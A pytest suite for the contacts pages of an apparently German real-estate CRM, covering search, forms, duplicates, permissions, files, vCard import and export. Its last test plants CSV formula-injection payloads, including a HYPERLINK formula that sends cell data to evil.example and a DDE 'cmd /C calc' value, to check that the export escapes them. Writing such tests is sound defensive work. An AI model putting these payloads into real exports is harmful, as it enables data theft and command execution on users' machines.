"""The HTML pages: list, form with the duplicate dialog, detail tabs, files, import, bulk actions, roles."""

from __future__ import annotations

from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from maklerwerk.contacts.models import Contact, ContactFile, Relationship
from maklerwerk.core.history import history_for
from maklerwerk.core.models import Activity
from tests.conftest import streamed
from tests.contacts.conftest import fixture_bytes, make_contact

pytestmark = pytest.mark.django_db


def client_for(user: Any) -> Client:
    c = Client()
    c.force_login(user)
    return c


def form_data(**extra: Any) -> dict[str, Any]:
    data = {
        "salutation": "herr",
        "first_name": "Jonas",
        "last_name": "Becker",
        "country": "DE",
        "preferred_language": "de",
        "emails-TOTAL_FORMS": "1",
        "emails-INITIAL_FORMS": "0",
        "emails-0-value": "jonas.becker@example.de",
        "emails-0-kind": "private",
        "phones-TOTAL_FORMS": "1",
        "phones-INITIAL_FORMS": "0",
        "phones-0-value": "0221 9876543",
        "phones-0-kind": "mobile",
    }
    data.update(extra)
    return data


def test_the_list_searches_sorts_and_pages(agent_client: Client, office: Any, agent: Any) -> None:
    for i in range(55):
        make_contact(office, agent, last_name=f"Zimmer{i:02d}", city="Bonn")
    make_contact(office, agent, last_name="Özdemir", city="Aachen", phones=[{"value": "030 1234567"}])
    page = agent_client.get("/contacts/").content.decode()
    assert "56 Kontakte" in page and "data-search" in page and "1 / 2" in page
    page = agent_client.get("/contacts/", {"q": "ozd"}).content.decode()
    assert "Özdemir" in page and "Zimmer00" not in page
    page = agent_client.get("/contacts/", {"q": "+49 30 123"}).content.decode()
    assert "Özdemir" in page and "030 1234567" in page
    page = agent_client.get("/contacts/", {"sort": "city"}).content.decode()
    assert page.index("Özdemir") < page.index("Zimmer00")
    page = agent_client.get("/contacts/", {"sort": "-name", "page": "2"}).content.decode()
    assert "Zimmer00" in page and "Zimmer54" not in page
    partial = agent_client.get(
        "/contacts/", {"q": "zim"}, headers={"HX-Request": "true", "HX-Target": "results"}
    )
    assert "<html" not in partial.content.decode() and "55 Kontakte" in partial.content.decode()


def test_it_creates_a_contact_with_company_and_bank_data(agent_client: Client, agent: Any) -> None:
    form = agent_client.get("/contacts/new/").content.decode()
    assert f'<option value="{agent.pk}" selected>' in form  # the creating agent is preselected
    response = agent_client.post(
        "/contacts/new/",
        form_data(
            responsible_agent=str(agent.pk),
            company_name="Becker Bau",
            legal_form="gmbh",
            iban="DE89370400440532013000",
            roles=["owner"],
            tags="VIP, Bau",
        ),
    )
    contact = Contact.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/contacts/{contact.pk}/"
    assert contact.phones.get().value == "+492219876543" and contact.responsible_agent == agent
    assert sorted(t.name for t in contact.tags.all()) == ["Bau", "VIP"]
    page = client_for(agent).get(response["Location"]).content.decode()
    assert "AGB / Provision – nicht bestätigt" in page
    assert "DE89 3704 0044 0532 0130 00" in page and "Sehr geehrter Herr Becker" in page
    assert "Becker Bau" in page and "0221 9876543" in page


def test_it_shows_german_field_errors(agent_client: Client) -> None:
    response = agent_client.post(
        "/contacts/new/",
        form_data(
            **{
                "iban": "DE89370400440532013001",
                "vat_id": "DE123",
                "emails-0-value": "jonas@",
                "phones-0-value": "12",
            }
        ),
    )
    page = response.content.decode()
    assert response.status_code == 422
    assert "falsche Prüfziffer" in page and "USt-IdNr." in page
    assert "keine gültige E-Mail-Adresse" in page and "keine gültige Telefonnummer" in page
    assert not Contact.objects.exists()


def test_it_shows_the_duplicate_dialog_and_saves_anyway_with_a_history_note(
    agent_client: Client, office: Any, agent: Any, fake_duplicates: Any
) -> None:
    existing = make_contact(office, agent, first_name="Jonas", last_name="Becker", city="Köln",
                            emails=[{"value": "jonas.becker@example.de"}])  # fmt: skip
    fake_duplicates(existing, "certain", 0.95)
    response = agent_client.post("/contacts/new/", form_data(city="Bonn"))
    page = response.content.decode()
    assert response.status_code == 409
    assert "Mögliche Dublette" in page and "gleiche E-Mail-Adresse" in page
    assert "Öffnen" in page and "Zusammenführen" in page and "Trotzdem speichern" in page
    assert 'class="bg-warning-lt" data-differs>Köln' in page.replace("\n", "")  # the differing city is marked
    assert Contact.objects.count() == 1
    response = agent_client.post(
        "/contacts/new/",
        form_data(city="Bonn", duplicate_decision="save_anyway", candidate=[str(existing.pk)]),
    )
    assert response.status_code == 302
    new = Contact.objects.exclude(pk=existing.pk).get()
    entry = history_for(new).get()
    assert entry.user == agent and f"#{existing.pk}" in entry.note and "Max Makler" in entry.note


def test_merge_from_the_dialog_saves_and_opens_the_merge_page(
    agent_client: Client, office: Any, agent: Any, fake_duplicates: Any
) -> None:
    existing = make_contact(office, agent, first_name="Jonas", last_name="Becker")
    fake_duplicates(existing, "possible", 0.7)
    response = agent_client.post(
        "/contacts/new/",
        form_data(duplicate_decision="merge", merge_with=str(existing.pk), candidate=[str(existing.pk)]),
    )
    new = Contact.objects.exclude(pk=existing.pk).get()
    assert response["Location"] == f"/duplicates/merge/{existing.pk}/{new.pk}/"


def test_editing_records_the_history_and_shows_it(agent_client: Client, contact: Any) -> None:
    data = form_data(first_name="Anna", last_name="Müller-Schmidt", **{"emails-0-value": "anna@example.de"})
    assert agent_client.post(f"/contacts/{contact.pk}/edit/", data).status_code == 302
    page = agent_client.get(f"/contacts/{contact.pk}/").content.decode()
    assert "Müller-Schmidt" in page and "Historie" in page
    assert "anna.mueller@example.de (privat)" in page  # old e-mail in the history
    assert "Max Makler" in page


def test_read_only_users_see_but_cannot_change(contact: Any, readonly_user: Any) -> None:
    c = client_for(readonly_user)
    page = c.get(f"/contacts/{contact.pk}/").content.decode()
    assert "Müller" in page and "Bearbeiten" not in page and "Durchsuchen" not in page
    assert c.get("/contacts/new/").status_code == 403
    assert c.post(f"/contacts/{contact.pk}/edit/", form_data()).status_code == 403
    assert (
        c.post(f"/contacts/{contact.pk}/files/", {"files": SimpleUploadedFile("a.txt", b"a")}).status_code
        == 403
    )
    assert c.post(f"/contacts/{contact.pk}/delete/").status_code == 403
    assert Contact.objects.get().last_name == "Müller"


def test_back_office_may_edit_but_not_delete(contact: Any, backoffice_user: Any) -> None:
    c = client_for(backoffice_user)
    assert c.get(f"/contacts/{contact.pk}/edit/").status_code == 200
    assert "Löschen" not in c.get(f"/contacts/{contact.pk}/").content.decode().split("Dateien")[0]
    assert c.post(f"/contacts/{contact.pk}/delete/").status_code == 403
    assert Contact.objects.exists()


def test_agents_delete_with_confirmation(agent_client: Client, contact: Any) -> None:
    page = agent_client.get(f"/contacts/{contact.pk}/").content.decode()
    assert "data-confirm=" in page and "kann nicht rückgängig gemacht werden" in page
    assert agent_client.post(f"/contacts/{contact.pk}/delete/").status_code == 302
    assert not Contact.objects.exists()


def test_another_offices_contact_is_not_found(contact: Any, outsider: Any) -> None:
    c = client_for(outsider)
    for url in ("", "edit/", "vcard/"):
        response = c.get(f"/contacts/{contact.pk}/{url}")
        assert response.status_code == 404 and "Müller" not in response.content.decode()
    assert c.post(f"/contacts/{contact.pk}/delete/").status_code == 404
    assert "0 Kontakte" in c.get("/contacts/", {"q": "Müller"}).content.decode()
    assert c.get("/contacts/lookup/", {"q": "Mül"}).json() == {"results": []}
    Contact.objects.get(pk=contact.pk)


def test_files_upload_download_and_delete(agent_client: Client, contact: Any, settings: Any) -> None:
    files = [SimpleUploadedFile("Exposé.pdf", b"%PDF demo"), SimpleUploadedFile("notiz.txt", b"hallo")]
    response = agent_client.post(f"/contacts/{contact.pk}/files/", {"files": files})
    assert response.status_code == 302 and response["Location"].endswith("#files")
    page = agent_client.get(f"/contacts/{contact.pk}/").content.decode()
    assert "Exposé.pdf" in page and "2 Datei(en) hochgeladen." in page
    row = ContactFile.objects.get(name="Exposé.pdf")
    download = agent_client.get(f"/contacts/{contact.pk}/files/{row.pk}/")
    assert download["Content-Disposition"].startswith("attachment;") and streamed(download) == b"%PDF demo"
    agent_client.post(f"/contacts/{contact.pk}/files/{row.pk}/delete/")
    assert list(ContactFile.objects.values_list("name", flat=True)) == ["notiz.txt"]


def test_a_file_over_the_limit_is_refused_with_a_clear_message(
    agent_client: Client, contact: Any, settings: Any
) -> None:
    settings.MAX_UPLOAD_BYTES = 1024
    files = [SimpleUploadedFile("klein.txt", b"ok"), SimpleUploadedFile("riesig.pdf", b"x" * 2048)]
    agent_client.post(f"/contacts/{contact.pk}/files/", {"files": files})
    page = agent_client.get(f"/contacts/{contact.pk}/").content.decode()
    assert "„riesig.pdf“ ist zu groß (2,0\xa0KB); Dateien dürfen höchstens 1,0\xa0KB groß sein." in page
    assert "Es wurde nichts hochgeladen." in page
    assert not ContactFile.objects.exists()


def test_relationships_show_the_inverse_label_on_the_other_side(
    agent_client: Client, contact: Any, office: Any
) -> None:
    other = make_contact(office, first_name="Ben", last_name="Müller")
    agent_client.post(f"/contacts/{contact.pk}/relationships/", {"other": other.pk, "kind": "spouse"})
    agent_client.post(f"/contacts/{other.pk}/relationships/", {"other": contact.pk, "kind": "child"})
    page = agent_client.get(f"/contacts/{other.pk}/").content.decode()
    assert "Ehepartner/in" in page and "bereits" in page
    rel = Relationship.objects.get()
    agent_client.post(f"/contacts/{other.pk}/relationships/{rel.pk}/", {"kind": "lawyer"})
    assert "Mandant/in" in agent_client.get(f"/contacts/{contact.pk}/").content.decode()
    lookup = agent_client.get("/contacts/lookup/", {"q": "mül", "exclude": str(contact.pk)}).json()
    assert [r["id"] for r in lookup["results"]] == [other.pk]


def test_the_activity_log_filters_by_kind(agent_client: Client, contact: Any, office: Any) -> None:
    Activity.objects.create(office=office, contact=contact, type="call", subject="Rückruf Finanzierung")
    Activity.objects.create(office=office, contact=contact, type="viewing", subject="Besichtigung Westend")
    page = agent_client.get("/activities/", {"contact": contact.pk}).content.decode()
    assert "Rückruf Finanzierung" in page and "Besichtigung Westend" in page
    partial = agent_client.get(
        "/activities/",
        {"contact": contact.pk, "type": "call"},
        headers={"HX-Request": "true", "HX-Target": "timeline-list"},
    ).content.decode()
    assert "Rückruf Finanzierung" in partial and "Besichtigung Westend" not in partial
    contact.refresh_from_db()
    assert contact.last_activity_at is not None  # the list's sortable column follows new activities


def test_vcard_import_previews_every_entry_then_imports(
    agent_client: Client, office: Any, agent: Any, django_capture_on_commit_callbacks: Any
) -> None:
    # Both steps run as background jobs (inline here): the page follows the job to its result.
    upload = SimpleUploadedFile("android.vcf", fixture_bytes("ez-vcard__John_Doe_ANDROID.vcf"))
    with django_capture_on_commit_callbacks(execute=True):
        response = agent_client.post("/contacts/import/", {"file": upload})
    assert response.status_code == 302 and "?job=" in response["Location"]
    page = agent_client.get(response["Location"]).content.decode()
    assert "android.vcf: 6 Einträge" in page and "john.doe@company.com" in page
    assert not Contact.objects.exists()
    token = page.split('name="token" value="')[1].split('"')[0]
    with django_capture_on_commit_callbacks(execute=True):
        response = agent_client.post("/contacts/import/", {"token": token, "filename": "android.vcf"})
    page = agent_client.get(response["Location"]).content.decode()
    assert "6 angelegt" in page and "0 fehlgeschlagen" in page
    assert Contact.objects.count() == 6
    assert agent_client.post("/contacts/import/", {"token": token}).status_code == 302  # used up
    assert "Dieser Import ist abgelaufen" in agent_client.get("/contacts/import/").content.decode()


def test_vcard_import_refuses_broken_files_and_stores_nothing(agent_client: Client) -> None:
    for name, raw, message in [
        ("bild.vcf", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(200), "keine vCard-Datei"),
        ("leer.vcf", b"Hallo Welt\n", "keine Zeile „BEGIN:VCARD“"),
    ]:
        response = agent_client.post("/contacts/import/", {"file": SimpleUploadedFile(name, raw)})
        assert response.status_code == 422 and message in response.content.decode()
    assert not Contact.objects.exists()


def test_bulk_tag_and_export(agent_client: Client, office: Any, agent: Any) -> None:
    a = make_contact(office, agent, last_name="Arndt", city="Bonn")
    b = make_contact(office, agent, last_name="Brandt", city="Köln")
    agent_client.post("/contacts/bulk/tag/", {"ids": [a.pk, b.pk], "tag": "Newsletter"})
    assert agent_client.get("/contacts/", {"tag": "Newsletter"}).content.decode().count('name="ids"') == 2
    assert history_for(a).filter(changes__icontains="Newsletter").exists()
    csv_text = streamed(agent_client.post("/contacts/export/", {"ids": [a.pk], "format": "csv"})).decode()
    assert csv_text.startswith("\ufeffID;Anrede") and "Arndt" in csv_text and "Brandt" not in csv_text
    vcf = streamed(agent_client.get("/contacts/export/", {"q": "köln", "format": "vcf"})).decode()
    assert vcf.count("BEGIN:VCARD") == 1 and "N:Brandt;" in vcf


def test_export_of_a_selection_is_limited_to_the_own_office(agent_client: Client, other_office: Any) -> None:
    foreign = make_contact(other_office, last_name="Fremd")
    vcf = streamed(agent_client.post("/contacts/export/", {"ids": [foreign.pk], "format": "vcf"}))
    assert b"Fremd" not in vcf


def test_the_detail_page_offers_the_actions_other_apps_register(agent_client: Any, office: Any) -> None:
    from maklerwerk.contacts.models import Contact

    contact = Contact.objects.create(office=office, last_name="Öztürk")
    html = agent_client.get(f"/contacts/{contact.pk}/").content.decode()
    assert f'href="/exposes/contact/{contact.pk}/"' in html and "Exposés senden" in html


def test_the_csv_export_writes_formulas_as_text(agent_client: Client, office: Any, agent: Any) -> None:
    import csv
    import io

    planted = make_contact(
        office,
        agent,
        first_name='=HYPERLINK("https://evil.example/?"&A1;"Details")',
        last_name="-2+3",
        company_name="@SUM(1+1)*cmd|' /C calc'!A0",
        city="+49 Köln",
        street="Hauptstraße",
    )
    body = streamed(agent_client.post("/contacts/export/", {"ids": [planted.pk], "format": "csv"})).decode()
    header, row = list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=";"))
    cells = dict(zip(header, row, strict=True))
    assert cells["Vorname"] == '\'=HYPERLINK("https://evil.example/?"&A1;"Details")'
    assert cells["Nachname"] == "'-2+3"
    assert cells["Firma"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert cells["Ort"] == "'+49 Köln"
    assert (cells["Straße"], cells["ID"]) == ("Hauptstraße", str(planted.pk))  # ordinary cells unchanged
